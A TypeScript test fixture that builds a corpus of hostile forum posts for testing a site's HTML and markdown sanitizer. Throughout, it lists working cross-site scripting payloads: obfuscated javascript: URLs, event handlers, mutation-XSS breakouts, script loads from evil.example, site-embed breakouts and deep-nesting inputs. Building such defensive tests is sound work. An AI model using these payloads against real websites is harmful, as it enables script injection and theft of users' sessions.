import { ALLOWED_TAGS } from './policy.ts';

// Texts a hostile member might post. Payloads call __pwned() (and alert(), which the browser test turns into the
// same trap), so the browser test notices any that runs. The unit test and the browser test both check that the
// rendered HTML holds nothing but allowed tags, attributes and URLs.
export interface HostileInput {
  readonly name: string;
  readonly text: string;
}

const P = '__pwned(1)';
const JS = `javascript:${P}`;

const handlersOnEveryTag: HostileInput[] = ALLOWED_TAGS.map((tag) => ({
  name: `event handlers on <${tag}>`,
  text:
    `<${tag} onclick="${P}" onmouseover="${P}" onerror="${P}" onload="${P}" onfocus="${P}" autofocus tabindex="0" ` +
    `src="x" href="${JS}" style="background:url(${JS})">${tag}</${tag}>`,
}));

const urls: HostileInput[] = [
  { name: 'javascript: href', text: `<a href="${JS}">x</a>` },
  { name: 'mixed-case scheme', text: `<a href="JaVaScRiPt:${P}">x</a>` },
  { name: 'leading space and control characters', text: `<a href=" \u0001\u0008javascript:${P}">x</a>` },
  { name: 'tab and newline inside the scheme', text: `<a href="java&#x09;scr&#x0A;ipt:${P}">x</a>` },
  { name: 'decimal entities', text: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}">x</a>` },
  { name: 'padded hex entities without semicolons', text: `<a href="&#x0000006A&#x00061vascript&#x3A;${P}">x</a>` },
  { name: 'named entity colon', text: `<a href="javascript&colon;${P}">x</a>` },
  { name: 'percent-encoded scheme', text: `<a href="%6A%61vascript:${P}">x</a>` },
  { name: 'vbscript:', text: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data: html link', text: '<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+">x</a>' },
  { name: 'data: svg image', text: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgxKT48L3N2Zz4=">' },
  { name: 'file: and blob:', text: '<a href="file:///etc/passwd">f</a> <img src="blob:https://x/1">' },
  {
    name: 'protocol-relative and backslashes',
    text: '<a href="//evil.example">a</a> <a href="/\\evil.example">b</a> <img src="\\\\evil.example/x.png">',
  },
  { name: 'markdown link to javascript:', text: `[x](${JS}) [y](JAVASCRIPT:${P}) [z](<javascript:${P}>)` },
  { name: 'markdown link with entity-encoded scheme', text: `[x](&#x6A;avascript:${P}) [y](java&#x09;script:${P})` },
  { name: 'markdown reference link to javascript:', text: `[x][evil]\n\n[evil]: ${JS}` },
  { name: 'markdown image with data: and javascript:', text: `![x](data:image/png;base64,iVBORw0KGgo=) ![y](${JS})` },
  { name: 'markdown autolink to javascript:', text: `<${JS}> <vbscript:msgbox(1)>` },
  {
    name: 'markdown link title breaking out',
    text: `[x](https://example.com "a\\" onmouseover=\\"${P}") ![y](https://example.com/a.png" onerror="${P})`,
  },
  { name: 'fullwidth and zero-width scheme', text: `<a href="ｊａｖａｓｃｒｉｐｔ:${P}">a</a> <a href="java\u200bscript:${P}">b</a>` },
];

const tags: HostileInput[] = [
  { name: 'script tag', text: `<script>${P}</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>` },
  { name: 'script split across tags', text: `<scr<script>ipt>${P}</scr</script>ipt> <<script>script>${P}<</script>/script>` },
  {
    name: 'style tag and style attribute',
    text: `<style>@import 'https://evil.example/x.css';</style><span style="position:fixed;inset:0">cover</span>`,
  },
  { name: 'class tricks', text: '<p class="md-spoiler">a</p><div class="md-spoiler button">b</div><span class="md-youtube">c</span>' },
  { name: 'svg onload and script', text: `<svg onload="${P}"><script>${P}</script><a xlink:href="${JS}"><text>x</text></a></svg>` },
  { name: 'mathml href', text: `<math href="${JS}"><mi xlink:href="${JS}">x</mi></math>` },
  { name: 'iframe src and srcdoc', text: `<iframe src="${JS}"></iframe><iframe srcdoc="<script>${P}</script>"></iframe>` },
  { name: 'object and embed', text: `<object data="${JS}"></object><embed src="${JS}">` },
  {
    name: 'form, input, button',
    text: `<form action="${JS}"><input autofocus onfocus="${P}"><button formaction="${JS}">go</button></form>`,
  },
  {
    name: 'base, meta refresh, link',
    text: `<base href="${JS}/"><meta http-equiv="refresh" content="0;url=${JS}"><link rel="stylesheet" href="https://evil.example/x.css">`,
  },
  {
    name: 'media element tricks',
    text: `<video src="https://example.com/v.webm" poster="${JS}" autoplay onplay="${P}"><source src="${JS}"></video><audio src=x onerror="${P}">`,
  },
  { name: 'img srcset and extra attributes', text: `<img src="https://example.com/a.png" srcset="${JS} 1x" usemap="#m" ismap>` },
  {
    name: 'link target and rel overrides',
    text: '<a href="https://example.com" target="_self" rel="opener" ping="https://evil.example">x</a>',
  },
  {
    name: 'sizes and alignment carrying code',
    text: `<img src="https://example.com/a.png" width="expression(${P})" height="1;x"><p align="${JS}">x</p>`,
  },
  {
    name: 'dom clobbering names and ids',
    text: '<img name="getElementById" src="https://example.com/a.png"><a id="__pwned" name="cookie" href="https://example.com">x</a><form id="x"></form>',
  },
  {
    name: 'comments hiding markup',
    text: `<!--<img src=x onerror="${P}">--> <!-- --!><img src=x onerror="${P}"> --> <![CDATA[><img src=x onerror="${P}">]]>`,
  },
  { name: 'unclosed and broken tags', text: `<a href="https://example.com<img src=x onerror=${P}>">x</a><img src="x" onerror="${P}"` },
];

const mutation: HostileInput[] = [
  { name: 'noscript title breakout', text: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>` },
  { name: 'svg style namespace confusion', text: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  { name: 'mathml mglyph textarea', text: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${P} src=1>">` },
  { name: 'nested forms in mathml', text: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>` },
  {
    name: 'raw text elements',
    text: `<xmp><img src=x onerror=${P}></xmp><textarea><img src=x onerror=${P}></textarea><title><img src=x onerror=${P}></title>`,
  },
  {
    name: 'template contents',
    text: `<template><img src=x onerror=${P}></template><select><template><img src=x onerror=${P}></template></select>`,
  },
  { name: 'table foster parenting', text: `<table><tr><td>a</td></tr><img src=x onerror=${P}><style></table><img src=x onerror=${P}>` },
];

const siteSyntax: HostileInput[] = [
  { name: 'spoiler holding markup', text: `~!<img src=x onerror=${P}>!~ ~!" onclick="${P}!~ ~!<script>${P}</script>!~` },
  { name: 'multi-line spoiler holding markup', text: `~!first\n\n<iframe src="${JS}"></iframe>\n<a href="${JS}">x</a>!~` },
  { name: 'centre holding markup', text: `+++<script>${P}</script>+++\n\n+++\n<svg onload=${P}>\n+++` },
  { name: 'mention breaking out', text: `@ab"onmouseover=${P} @<img src=x onerror=${P}> @ab'><script>${P}</script>` },
  { name: 'image embed with bad URLs', text: `img(${JS}) img(data:image/png;base64,AAAA) img(https://example.com/a.png" onerror="${P})` },
  { name: 'image embed width breaking out', text: `img220(x" onerror=${P} x=") img50%(${JS}) img9999999(https://example.com/a.png)` },
  { name: 'youtube embed breaking out', text: `youtube(" onerror="${P}) youtube(dQw4w9WgXcQ"><script>${P}</script>) youtube(${JS})` },
  {
    name: 'video embed breaking out',
    text: `webm(${JS}) webm(https://example.com/v.webm"><svg onload=${P}>) webm(data:video/webm;base64,AAAA)`,
  },
  {
    name: 'embeds and links to piracy hosts',
    text: 'img(https://kissanime.ru/a.png) [watch](https://www.9anime.to/x) <a href="http://NYAA.si./t">t</a>',
  },
  { name: 'embed inside a link and a link inside a spoiler', text: `[youtube(dQw4w9WgXcQ)](${JS}) ~![x](${JS})!~` },
];

const sizes: HostileInput[] = [
  { name: 'deeply nested divs', text: `${'<div>'.repeat(3000)}<img src=x onerror=${P}>` },
  { name: 'deeply nested formatting tags', text: `${'<b><i>'.repeat(1500)}x` },
  {
    name: 'deeply nested blockquotes and lists',
    text: `${'> '.repeat(500)}x\n\n${Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')}`,
  },
  { name: 'nested spoilers and centres', text: `${'~!+++\n'.repeat(300)}x${'\n+++!~'.repeat(300)}` },
  { name: 'many unclosed spoilers', text: '~!'.repeat(5000) },
  { name: 'many openers and brackets', text: `${'['.repeat(3000)}${'*'.repeat(3000)}${'_'.repeat(3000)}` },
  { name: 'very long URL', text: `img(https://example.com/${'a'.repeat(5000)}.png) [x](https://example.com/${'b'.repeat(5000)})` },
  { name: 'wall of mentions', text: '@ab '.repeat(2500) },
];

export const HOSTILE_CORPUS: readonly HostileInput[] = [...handlersOnEveryTag, ...urls, ...tags, ...mutation, ...siteSyntax, ...sizes];
